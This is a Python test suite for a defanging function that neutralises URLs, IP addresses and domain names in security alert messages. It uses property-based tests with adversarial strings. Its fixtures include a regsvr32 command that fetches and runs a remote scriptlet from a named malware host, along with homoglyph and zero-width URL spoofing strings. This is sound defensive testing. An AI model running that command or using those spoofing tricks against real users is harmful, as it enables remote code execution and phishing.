"""Defanging, the one function (SECURITY.md: live IOCs in messages). Whatever string goes in, no renderer
Garrison's readers use finds a link or an address in what comes out: not Markdown as the Prefect UI renders
it (CommonMark + GFM autolinks: ``www.x.com``, ``x.com/path``, entity references decoded), not HTML, not
Slack mrkdwn, not a mail or chat client that linkifies plain text. IDN and confusable names are shown in
punycode; invisible characters (bidi, zero-width) are gone.

The detector below is written apart from the implementation and errs on the side of finding links: a
scheme before ``://`` (or ``http:/``), ``www`` and a dot, a dotted name ending in a TLD-like label, a
dotted-quad address; and, for the punycode rule, a non-ASCII letter in a URL's host or in a name that ends
in a real TLD.
"""

from __future__ import annotations

import html
import re
import unicodedata

import idna
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from publicsuffixlist import PublicSuffixList

from flows.models import defang, defang_text
from flows.models._indicator import _FILE_EXTENSIONS
from flows.notify import escape_markdown, inert
from flows.notify._text import defanged

# -- the independent detector -------------------------------------------------------------------------------

_PSL = PublicSuffixList(accept_unknown=False)
_FULL_STOPS = ".\uff0e\uff61\u2024"
_SAFE_SEPARATOR = re.compile(r"(?<![A-Za-z0-9+.\-])(?:hxxps?|fxps?)://|\[://\]", re.I | re.A)
_LOOSE_SCHEME = re.compile(r"(?:https?|ftps?):[/\\]", re.I | re.A)
_DOTTED_QUAD = re.compile(r"(?<![\d.])\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?!\d)")
# ‹ and › are what inert() shows for < and >: they end a URL as those did.
_AUTHORITY = re.compile(r"(?:://|\[://\])([^/\\?#\s<>‹›\"'`,;|()\[\]{}]*)")
_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")


def _shape(text: str, *, symbols: bool = True) -> str:
    """One class letter per character: a letter/mark, 9 digit, s symbol, - for - and _, . a dot."""
    out = []
    for i, char in enumerate(text):
        category = unicodedata.category(char)
        around = text[i - 1 : i] + text[i + 1 : i + 2]
        ideographic_dot = char == "\u3002" and any(c.isascii() and c.isalnum() for c in around)
        if char in _FULL_STOPS or ideographic_dot:
            out.append(".")
        elif char in "-_":
            out.append("-")
        elif category[0] in "LM":
            out.append("a")
        elif category[0] == "N":
            out.append("9")
        elif category[0] == "S" and char not in "<>" and (symbols or not char.isascii()):
            out.append("s")
        else:
            out.append(" ")
    return "".join(out)


_NAME = re.compile(r"[a9s\-]+(?:\.+[a9s\-]+)*\.+(a{2,}|aa--[a9\-]+)(?![a9s\-])")


def live_links(text: str) -> list[str]:
    """Everything in ``text`` a linkifying reader could click or resolve."""
    found = []
    rest = _SAFE_SEPARATOR.sub(" ", text)
    found += [rest[max(0, m.start() - 10) : m.end() + 10] for m in re.finditer("://", rest)]
    found += _LOOSE_SCHEME.findall(text)
    found += _DOTTED_QUAD.findall(text)
    shape = _shape(text)
    for match in re.finditer("www", text, re.I):
        after = match.end()
        while after < len(text) and shape[after] == ".":
            after += 1
        if after > match.end() and after < len(text) and shape[after] in "a9s-":
            found.append(text[match.start() : after + 1])
    for match in _NAME.finditer(shape):
        name, tld = text[match.start() : match.end()], text[match.start(1) : match.end(1)]
        if tld.casefold() not in _FILE_EXTENSIONS:
            found.append(name)
        else:  # a file name (no client links regsvr32.exe), unless a live name comes before: evil.com.exe
            found += live_links(text[match.start() : match.start(1)].rstrip(_FULL_STOPS + "\u3002"))
    return found


def unicode_hosts(text: str) -> list[str]:
    """Hosts and domain names (ending in a real TLD) that are not shown in ASCII (punycode)."""
    found = []
    for match in _AUTHORITY.finditer(text.replace("[.]", ".")):
        host = match.group(1).rpartition("@")[2].partition(":")[0]
        if not all(label.isascii() for label in re.split(f"[{_FULL_STOPS}\u3002]", host)):
            found.append(host)
    flat = text.replace("[.]", "\uff0e")
    shape = _shape(flat, symbols=False)
    for match in re.finditer(r"[a9s\-]+(?:\.+[a9s\-]+)+", shape):
        labels = re.split(f"[{_FULL_STOPS}\u3002]+", flat[match.start() : match.end()])
        if not all(label.isascii() for label in labels) and _real_tld(labels[-1]):
            found.append(".".join(labels))
    return found


def _real_tld(label: str) -> bool:
    """Whether a label is a TLD as any client may read it: as written, IDNA 2003 (ß is ss), UTS 46."""
    forms = {label.lower()}
    for encode in (lambda: label.encode("idna"), lambda: idna.encode(label, uts46=True)):
        try:
            forms.add(encode().decode("ascii").lower())
        except (UnicodeError, idna.IDNAError):
            pass
    return any(_PSL.publicsuffix(f"x.{form}") is not None for form in forms)


def markdown_text(markdown: str) -> str:
    """The text a CommonMark reader sees: backslash escapes resolved, entity references decoded."""
    unescaped = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown)
    return _ENTITY.sub(lambda m: html.unescape(m.group(0)), unescaped)


def test_the_detector_finds_what_linkifiers_find() -> None:
    for text in (
        "http://a.example/x",
        "xhttp://a",
        "hxxp://a.example/x,http://3735928559/login",
        "file://x",
        "http:\\\\evil",
        "www.x1",
        "see www.exаmple.com",
        "evil.com/path",
        "пример.рф",
        "10.0.0.1",
        "x.exe.com",
    ):
        assert live_links(text), text
    for text in ("hxxp://a[.]example/x", "file[://]x", "regsvr32.exe", "e.g. this", "www[.]x", "0.95"):
        assert not live_links(text), text
    assert unicode_hosts("www[.]exаmple[.]com") and unicode_hosts("hxxp://bücher/x")
    assert not unicode_hosts("www[.]xn--exmple-4nf[.]com") and not unicode_hosts("完了しました[.]次に")


def test_file_extensions_left_intact_are_no_top_level_domains() -> None:
    # What lets the detector take ``regsvr32.exe`` for a file name: no client links a name without a TLD.
    assert [ext for ext in sorted(_FILE_EXTENSIONS) if _PSL.publicsuffix(f"x.{ext}") is not None] == []


# -- the adversarial strings --------------------------------------------------------------------------------

SCHEMES = [
    "http", "https", "HTTP", "hTtPs", "ftp", "FTPS", "file", "javascript", "smb", "hxxp", "hXXps", "fxp",
    "h\u200bttp", "ht\u00adtp", "xhttp", "1http", "a.b+http", "ｈｔｔｐ", "http\u200e", "",
]  # fmt: skip
SEPARATORS = [
    "://", ":/", ":\\\\", ":\\/\\/", "&#58;//", ":&#47;&#47;", "&colon;//", "[://]", ":\u200b//", "://",
    "[:]//", ":／／",
]  # fmt: skip
HOSTS = [
    "a.example", "evil.com", "js.mykings.top:280", "3735928559", "0xdeadbeef", "0x7f.1", "0177.0.0.1",
    "127.1", "8.8.8.8", "[::1]", "exаmple.com", "bücher.de", "BÜCHER.DE", "пример.рф", "例え.台灣",
    "ｅｖｉｌ．ｃｏｍ", "evil。com", "evil․com", "localhost", "user:pw@evil.com", "google.com@evil.com",
    "evil.com:8080", "i❤.ws", "x.xn--p1ai", "EVIL.COM", "cafe\u0301.com", "ev\u200bil.com", "evil&#46;com",
    "evil&#x2e;com", "evil&period;com", "evil.c&#111;m", "a_.com", "evil.com_x", "www.x1",
]  # fmt: skip
PATHS = ["", "/", "/x", "/login", "/a.php?q=1#f", "/v.sct", "/パス.html", "/x,", "/.."]
GLUE = [
    "", " ", ",", ";", "|", "(", ")", "'", '"', "\u00a0", "\u3000", "\t", "\n", "\r\n", "\u200b",
    "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\u200f", "\u061c", "\u202e", "\u2066", "\u00ad",
    "<", ">", "[", "]", "*", "_", "`", "&#46;", "&#46", "&period;", "&#&#52;6;", "\x1b", "\x9b", ".", "。",
    "．", "@", "\\", "-", "&", "#", ":", "/", "//", "www", "WWW", "www.", "Www．", "ｗｗｗ.",
]  # fmt: skip
WORDS = [
    "regsvr32.exe", "scrobj.dll", "v.sct", "e.g.", "lab.block_ip", "System.Net.WebClient",
    "cdn.evil.example.org", "evil.com.exe", "invoice.zip", "mail@evil.com", "了解しました", "しました。次に",
    "Übersicht", "пример", "例え", "台灣", "рф", "com", "de", "xn--p1ai", "exe", "0.95", "1.2.3.4",
]  # fmt: skip
LETTERS = st.text(st.characters(categories=["Lu", "Ll", "Lo", "Mn", "Nd", "So"]), min_size=1, max_size=4)
URLS = st.builds(
    lambda scheme, separator, host, path: scheme + separator + host + path,
    st.sampled_from(SCHEMES),
    st.sampled_from(SEPARATORS),
    st.sampled_from(HOSTS) | st.builds(lambda a, b: f"{a}.{b}", LETTERS, LETTERS),
    st.sampled_from(PATHS),
)
PIECES = st.one_of(
    URLS,
    st.sampled_from(HOSTS),
    st.sampled_from(GLUE),
    st.sampled_from(WORDS),
    LETTERS,
    st.text(max_size=4),
)
ADVERSARIAL = st.lists(PIECES, max_size=10).map("".join)
_INVISIBLE = re.compile(
    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]"
)


def _check(shown: str, given: str) -> None:
    assert live_links(shown) == [], (given, shown)
    assert unicode_hosts(shown) == [], (given, shown)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ADVERSARIAL)
def test_nothing_live_survives_defanging_whatever_goes_in(text: str) -> None:
    shown = defang_text(text)

    _check(shown, text)
    assert _INVISIBLE.search(shown) is None, (text, shown)
    assert defang_text(shown) == shown  # stable: defanging what is shown changes nothing


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ADVERSARIAL)
def test_nothing_live_survives_in_any_channel(text: str) -> None:
    for shown in (inert(text), defanged(text), defang(text)):
        _check(shown, text)
        # Markdown (the Prefect artifact): what the reader sees once escapes and entities are resolved.
        _check(markdown_text(escape_markdown(shown)), text)
        # HTML is autoescaped and Slack escapes & < >: their readers see ``shown`` itself.
        assert html.unescape(html.escape(shown)) == shown


# -- what the issue found, one by one -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        pytest.param(
            "http://a.example/x,http://3735928559/login",
            "hxxp://a[.]example/x,hxxp://3735928559/login",
            id="glued-urls-dotless-host",
        ),
        pytest.param("www.exаmple.com", "www[.]xn--exmple-4nf[.]com", id="cyrillic-confusable"),
        pytest.param("www.bücher.de", "www[.]xn--bcher-kva[.]de", id="idn"),
        pytest.param("http://bücher/x", "hxxp://xn--bcher-kva/x", id="idn-host-without-dot"),
        pytest.param("smb://share/x;file:///etc", "smb[://]share/x;file[://]/etc", id="any-scheme"),
        pytest.param("HTTPS://EVIL.COM", "hxxps://EVIL[.]COM", id="upper-case"),
        pytest.param("ht\u200btp://evil\u200b.com", "hxxp://evil[.]com", id="zero-width"),
        pytest.param("www&#46;evil&#46;com", "www[.]evil[.]com", id="entity-dots-markdown-decodes"),
        pytest.param("evil．com and evil。com", "evil[.]com and evil[.]com", id="unicode-full-stops"),
        pytest.param("http:\\\\evil/x", "hxxp:\\\\evil/x", id="backslashes"),
        pytest.param("WS\u200eFIN\u200f07", "WS FIN 07", id="lrm-rlm"),
    ],
)
def test_what_the_attack_found_is_defanged(raw: str, shown: str) -> None:
    assert defang_text(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (
            "regsvr32.exe /i:http://js.mykings.top:280/v.sct scrobj.dll",
            "regsvr32.exe /i:hxxp://js[.]mykings[.]top:280/v[.]sct scrobj.dll",
        ),
        ("score 0.95, e.g. lab.block_ip", "score 0.95, e.g. lab.block_ip"),
        ("{{''.__class__.__mro__}}", "{{''.__class__.__mro__}}"),
        ("感染しました。次に確認します", "感染しました。次に確認します"),
        ("invoice.zip", "invoice[.]zip"),  # .zip is a TLD
    ],
)
def test_text_that_is_no_link_reads_as_written(raw: str, shown: str) -> None:
    assert defang_text(raw) == shown


def test_lrm_rlm_and_other_invisible_characters_are_gone_from_what_people_read() -> None:
    hidden = "WS-FINANCE-07\u200e \u200fsafe\u202egnp.exe \u2066x\u2069 a\u200bb\u00adc\u2060d\ufeff"

    shown = inert(hidden)

    assert _INVISIBLE.search(shown) is None
    assert shown == "WS-FINANCE-07   safe gnp.exe  x  abcd"
